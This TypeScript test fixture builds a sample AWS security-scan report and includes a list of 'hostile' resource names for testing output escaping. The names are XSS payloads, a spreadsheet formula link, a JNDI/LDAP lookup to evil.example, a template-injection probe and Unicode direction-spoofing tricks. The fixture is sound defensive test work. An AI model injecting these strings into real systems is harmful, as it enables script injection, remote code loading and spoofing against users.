/**
 * A report as a scan of a middling account would give it, with everything in it that a reporter may stumble on: each
 * outcome and owner, latent and muted findings, gaps, skipped regions, and names chosen by somebody hostile.
 */
import { everything } from '../../src/plan/asked.ts';
import {
  type CallLine,
  type CheckLine,
  type Finding,
  type Report,
  reportSchema,
} from '../../src/report/model.ts';
import { outcomes, type Outcome, owners, severities } from '../../src/judge/terms.ts';
import {
  callOf,
  deadlineGap,
  denied,
  digest,
  gapsOf,
  plainCalls,
  regions,
  startedAt,
} from './sample-calls.ts';
import { sampleChecks } from './sample-checks.ts';
import { linesOf } from './sample-responsibilities.ts';

const account = '123456789012';

/** Names that must come out as the text that they are. */
export const hostileNames = [
  '<img src=x onerror="window.pwned=true">',
  '</script><script>window.pwned=true</script>',
  '"><svg onload=window.pwned=true>',
  "' onmouseover='window.pwned=true",
  '=HYPERLINK("https://evil.example","open")',
  '\u001b[31mred\u001b[0m\u0007',
  'invoice\u202Efdp.exe',
  '\u2066\u05D0\u05D1\u2069-mixed-\u0627\u0644\u0639\u0631\u0628\u064A\u0629',
  'zero\u200Bwidth\uFEFF',
  'n'.repeat(256),
  '${jndi:ldap://evil.example/a} {{7*7}} &amp; &lt;b&gt;',
] as const;

interface Options {
  /** A scan that a deadline ended. */
  readonly partial?: boolean;
  /** Buckets beside the hostile ones; seven checks judge each. */
  readonly buckets?: number;
}

/** Shares of the outcomes of a check by the number of the resource, so that all occur and most pass. */
const pattern: readonly Outcome[] = [
  ...(['fail', 'pass', 'pass', 'unknown', 'pass', 'pass', 'fail', 'pass', 'pass', 'pass'] as const),
  ...(['manual', 'pass', 'pass', 'not-applicable', 'pass', 'pass', 'out-of-scope'] as const),
];

export function sampleReport(options: Options = {}): Report {
  const calls: CallLine[] = [];
  const inOrder = (a: Finding, b: Finding) =>
    outcomes.indexOf(a.outcome) - outcomes.indexOf(b.outcome) ||
    severities.indexOf(a.severity) - severities.indexOf(b.severity) ||
    (a.check < b.check ? -1 : 1);
  const judged = sampleChecks.flatMap((check, index) =>
    resourcesOf(check, options.buckets ?? 24).map((resource, number) =>
      findingOf(check, resource, pattern[(number * 3 + index) % pattern.length] ?? 'pass', calls),
    ),
  );
  const findings = judged.toSorted(inOrder);
  calls.push(...plainCalls());
  const unique = [...new Map(calls.map((call) => [call.id, call])).values()];
  const gaps = options.partial ? [...gapsOf(unique), deadlineGap] : gapsOf(unique);
  return {
    schema: reportSchema,
    tool: { name: 'srm-scan', version: '0.1.0' },
    scan: {
      id: digest(account, startedAt).slice(0, 16),
      startedAt,
      finishedAt: '2026-11-22T15:41:19.804Z',
      status: options.partial ? 'partial' : 'complete',
      ...(options.partial ? { endedBy: 'the deadline of 14 minutes' } : {}),
      account: { id: account, alias: 'acme-prod' },
      partition: 'aws',
      principal: `arn:aws:sts::${account}:assumed-role/srm-scan/auditor`,
      regions,
      skippedRegions: [
        { region: 'me-south-1', reason: 'not enabled for the account' },
        { region: 'ap-southeast-4', reason: 'left out with --region' },
      ],
      selection: { ...everything, regions },
      parameters: [],
    },
    coverage: {
      calls: {
        planned: unique.length + (options.partial ? 12 : 0),
        ok: unique.filter((call) => call.status === 'ok').length,
        denied: unique.filter((call) => call.status === 'denied').length,
        throttled: unique.filter((call) => call.status === 'throttled').length,
        failed: unique.filter((call) => call.status === 'failed').length,
        skipped: options.partial ? 12 : 0,
      },
      gaps,
    },
    summary: summaryOf(findings),
    responsibilities: linesOf(findings),
    otherServices: [],
    checks: sampleChecks,
    controls: [],
    calls: unique.toSorted((a, b) => (a.id < b.id ? -1 : 1)),
    findings,
  };
}

interface Named {
  readonly name: string;
  readonly arn: string;
  readonly type: string;
  readonly region: string;
}

function resourcesOf(check: CheckLine, buckets: number): readonly Named[] {
  if (check.service === 's3') {
    const names = Array.from({ length: buckets }, (_, number) => `acme-prod-data-${number}`);
    return [...hostileNames, ...names].map((name, number) => ({
      name,
      arn: `arn:aws:s3:::${name}`,
      type: 'AWS::S3::Bucket',
      region: regions[number % regions.length] ?? 'eu-west-1',
    }));
  }
  if (check.service === 'iam' || check.service === 'account') {
    const root = `arn:aws:iam::${account}:root`;
    return [{ name: account, arn: root, type: 'AWS::::Account', region: 'global' }];
  }
  return Array.from({ length: 6 }, (_, number) => {
    const name = `${check.service}-${digest(check.service, String(number)).slice(0, 12)}`;
    const region = regions[number % regions.length] ?? 'eu-west-1';
    return {
      name,
      arn: `arn:aws:${check.service}:${region}:${account}:resource/${name}`,
      type: `AWS::${check.service.toUpperCase()}::Resource`,
      region,
    };
  });
}

function findingOf(
  check: CheckLine,
  resource: Named,
  outcome: Outcome,
  calls: CallLine[],
): Finding {
  const { name, arn, type, region } = resource;
  const id = digest(account, region, check.id, arn).slice(0, 20);
  const latent = outcome === 'fail' && check.id.includes('-sg-') && Number.parseInt(id, 16) % 2 > 0;
  const call = callOf(check.service, `Get${check.service}Configuration`, region, { Name: name });
  const known: CallLine = outcome === 'unknown' ? { ...call, ...denied } : call;
  calls.push(known);
  return {
    id,
    check: check.id,
    title: check.title,
    service: check.service,
    outcome,
    severity: latent ? 'low' : check.severity,
    ...(latent && check.severity !== 'low'
      ? { regraded: { from: check.severity, because: 'nothing uses it' } }
      : {}),
    owner: outcome === 'out-of-scope' ? (id < '8' ? 'aws' : 'organization') : 'customer',
    account,
    region,
    ...(latent ? { latent: true as const } : {}),
    resource: { arn, type, name },
    reasons: reasonsOf(outcome, name),
    evidence: [known.id, callOf(check.service, 'ListResources', region).id],
    ...(outcome === 'fail' && id < '2'
      ? {
          muted: {
            reason: 'Public on purpose: the website',
            owner: 'web team',
            until: '2027-01-31',
          },
        }
      : {}),
  };
}

function reasonsOf(outcome: Outcome, name: string): readonly string[] {
  switch (outcome) {
    case 'fail':
      return [`the setting is off for ${name}`, 'nothing of the account makes up for it'];
    case 'unknown':
      return ['s3:GetBucketPolicy in eu-west-1: AccessDenied: User is not authorized'];
    case 'manual':
      return ['the API shows that a contact is set, not whether it is current'];
    case 'pass':
      return ['the setting is on'];
    case 'not-applicable':
      return ['there is nothing of this kind in the regions that were read'];
    case 'out-of-scope':
      return ['a service-linked role of AWS owns the resource'];
  }
}

function summaryOf(findings: readonly Finding[]): Report['summary'] {
  const customers = findings.filter((finding) => finding.owner === 'customer');
  const customersWith = (outcome: Outcome) =>
    customers.filter((each) => each.outcome === outcome).length;
  const byOutcome = tally(outcomes, (key) => findings.filter((f) => f.outcome === key).length);
  const bySeverity = tally(
    severities,
    (key) => customers.filter((f) => f.outcome === 'fail' && f.severity === key).length,
  );
  const byOwner = tally(owners, (key) => findings.filter((f) => f.owner === key).length);
  const muted = tally(
    severities,
    (key) => customers.filter((f) => f.muted !== undefined && f.severity === key).length,
  );
  return {
    byOutcome: full(outcomes, byOutcome),
    bySeverity: full(severities, bySeverity),
    byOwner: full(owners, byOwner),
    score: {
      passed: customersWith('pass'),
      of: customersWith('pass') + customersWith('fail') + customersWith('unknown'),
    },
    muted: full(severities, muted),
  };
}

function tally<K extends string>(
  keys: readonly K[],
  count: (key: K) => number,
): readonly (readonly [K, number])[] {
  return keys.map((key) => [key, count(key)] as const);
}

function full<K extends string>(
  keys: readonly K[],
  entries: readonly (readonly [K, number])[],
): Record<K, number> {
  const record: Partial<Record<K, number>> = {};
  for (const [key, count] of entries) record[key] = count;
  const whole = (partial: Partial<Record<K, number>>): partial is Record<K, number> =>
    keys.every((key) => partial[key] !== undefined);
  if (!whole(record)) throw new Error('a count is missing');
  return record;
}
